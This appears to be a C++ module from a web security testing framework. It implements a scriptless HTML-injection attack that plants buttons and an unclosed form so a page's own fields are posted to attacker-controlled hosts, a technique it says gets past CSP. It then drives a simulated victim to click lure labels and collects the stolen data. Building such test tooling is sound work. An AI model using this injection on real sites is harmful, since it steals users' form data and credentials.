// xss-form: leaves a button or a form that sends the page's own fields away when the reader clicks
// what looks like a link. No script is needed (CSP3, form-action, which does not follow
// default-src).
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/session.h"
#include "core/attack/stored_text.h"
#include "core/attack/tags.h"

namespace parapet::attack {
namespace {

class XssForm final : public Agent {
    void run(Target& target) override {
        if (target.hosts().empty() || target.victim() == nullptr) return;
        StoredText text(target);
        std::vector<std::string> forms;
        for (std::string const& page : text.pages())
            for (Tag const& tag : tags_in(page))
                if (auto const id = tag.attribute("id"); id && tag.name == "form")
                    forms.push_back("form=" + in_quotes(*id));
        std::vector<Buttons> const ways = buttons_to_each_host(target, forms);
        if (!forms.empty()) text.leave(html_of(ways));
        if (!victim_signs_in(target)) return;
        victim_does(target, routines_option(target, option::kDoes));
        for (Buttons const& way : ways) {
            for (std::string const& label : way.labels) click(target, label);
            if (!received_texts(target).empty()) break;
        }
        // A form that stays open: the page's own form within it is none, and its fields are his.
        std::vector<Buttons> const inside = buttons_to_each_host(target, {""});
        text.leave("<form>" + html_of(inside));
        reads_again(target);
        for (Buttons const& way : inside) (void)target.victim()->clicks(way.labels.front());
        try_loot(target, received_texts(target));
    }

    // To one of the attacker's hosts: a policy may trust a sibling, or a CDN as a whole.
    struct Buttons {
        std::string html;
        std::vector<std::string> labels;
    };

    static std::vector<Buttons> buttons_to_each_host(Target& target,
                                                     std::vector<std::string> const& forms) {
        std::vector<Buttons> all;
        for (OwnHost* host : target.hosts()) {
            std::string const away = in_quotes(collecting_address(*host));
            Buttons& to = all.emplace_back();
            for (std::string const& form : forms) {
                to.labels.push_back("Read more about " + random_word(target, 5));
                to.html += "<button " + form + " formaction=" + away + " formmethod=\"post\">" +
                           to.labels.back() + "</button>";
            }
        }
        return all;
    }

    static std::string html_of(std::vector<Buttons> const& ways) {
        std::string html;
        for (Buttons const& way : ways) html += way.html;
        return html;
    }

    // Where the page with the buttons is gone he comes back to it.
    static void click(Target& target, std::string const& label) {
        if (target.victim()->clicks(label) == Outcome::Done) return;
        reads_again(target);
        (void)target.victim()->clicks(label);
    }

    static void reads_again(Target& target) {
        bool const has_other = !target.option(option::kAgain).empty();
        victim_does(target, routines_option(target, has_other ? option::kAgain : option::kDoes));
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_form() { return std::make_unique<XssForm>(); }

}  // namespace parapet::attack
